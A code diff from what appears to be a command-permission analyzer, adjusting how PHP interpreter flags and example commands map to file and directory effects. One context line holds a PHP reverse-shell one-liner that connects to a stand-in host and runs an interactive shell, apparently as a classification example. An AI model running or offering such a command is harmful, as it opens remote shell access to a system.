@@ -231,7 +231,7 @@ export const INTERPRETERS: readonly Program[] = [
       '-c': 'read',
       '-d': 'text',
       '-S': 'text',
-      '-t': 'cwd',
+      '-t': 'dir',
       '-z': 'library',
       '-v': 'flag',
       '-l': 'flag',
@@ -242,6 +242,7 @@ export const INTERPRETERS: readonly Program[] = [
     behaviour: 'interpreter',
     examples: {
       'php -r \'unlink("x");\'': 'delete x',
+      'php -S localhost:80 -t x': 'read -r x',
       'php -r \'file_put_contents("x", "y");\'': 'write x',
       'php x.php': 'execute x.php; read x.php',
       'php -r \'$s=fsockopen("a.example",80);exec("/bin/sh -i");\'':
